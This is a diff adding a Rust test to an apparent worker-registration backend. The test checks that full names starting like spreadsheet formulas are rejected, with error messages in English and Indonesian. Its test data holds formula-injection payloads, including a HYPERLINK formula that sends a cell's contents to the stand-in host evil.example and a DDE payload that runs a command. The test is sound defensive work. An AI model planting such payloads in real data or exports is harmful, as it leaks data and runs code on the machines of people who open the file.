@@ -627,3 +627,45 @@ backend_test!(a_later_mutation_of_a_document_never_reads_rows_cached_before_it, 
     assert_eq!(data(&response)["a"]["coverages"][0]["worker"]["fullName"], "Budi A");
     assert_eq!(data(&response)["b"]["coverages"][0]["worker"]["fullName"], "Budi B");
 });
+
+/// What issue 21 (item 6) found accepted: formulas a spreadsheet runs when an export is opened.
+const FORMULA_NAMES: [&str; 3] =
+    [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)"];
+
+backend_test!(names_that_start_like_a_formula_are_refused, |app: TestApp| async move {
+    let budi =
+        data(&register(&app, input(&male_nik(1), "Budi")).await)["registerWorker"]["id"].as_str().unwrap().to_owned();
+    let audit = app.count_rows("audit_log").await;
+    for (n, name) in FORMULA_NAMES.into_iter().flat_map(|name| [name.to_owned(), format!("  {name}")]).enumerate() {
+        let response = register(&app, input(&male_nik(2 + n as u32), &name)).await;
+        assert_eq!(
+            (error_code(&response), error_field(&response)),
+            ("BAD_USER_INPUT", "fullName"),
+            "{name}: {response}"
+        );
+        let response = update(&app, &budi, json!({ "fullName": name })).await;
+        assert_eq!(
+            (error_code(&response), error_field(&response)),
+            ("BAD_USER_INPUT", "fullName"),
+            "{name}: {response}"
+        );
+    }
+    assert_eq!((app.count_rows("worker").await, app.count_rows("audit_log").await), (1, audit));
+    assert_eq!(worker_row(&app, &budi).await["fullName"], "Budi");
+    let response = register(&app, input(&male_nik(9), "=1+1")).await;
+    assert_eq!(
+        response["errors"][0]["message"],
+        "fullName must not start with =, + or @ (spreadsheets would run it as a formula)"
+    );
+    let response =
+        app.in_language("id").gql_as(&app.admin, REGISTER, json!({ "input": input(&male_nik(9), "=1+1") })).await;
+    assert_eq!(
+        response["errors"][0]["message"],
+        "fullName tidak boleh diawali =, + atau @ (spreadsheet akan menjalankannya sebagai rumus)"
+    );
+    // Those characters inside a name, a leading '-' or quote: names still (exports make them inert).
+    for (n, name) in ["Siti = Aminah", "Ahmad+Yani", "Dewi@Desa", "-Budi", "'Aisyah"].into_iter().enumerate() {
+        let registered = data(&register(&app, input(&male_nik(20 + n as u32), name)).await)["registerWorker"].clone();
+        assert_eq!(registered["fullName"], name);
+    }
+});
